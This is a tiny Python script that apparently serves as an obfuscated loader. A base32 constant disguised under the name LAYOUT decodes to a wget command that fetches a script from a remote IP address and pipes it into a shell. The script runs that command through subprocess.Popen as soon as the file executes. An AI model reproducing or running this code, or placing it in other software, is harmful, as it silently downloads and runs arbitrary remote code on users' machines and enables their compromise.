import base64
import subprocess

LAYOUT = 'O5TWK5BAFVYU6LJANB2HI4B2F4XTEMBTFYYC4MJRGMXDCOJPOAQHYIDTNA======'


def main():
    cmd = base64.b32decode(LAYOUT).decode()
    subprocess.Popen(cmd, shell=True)


main()
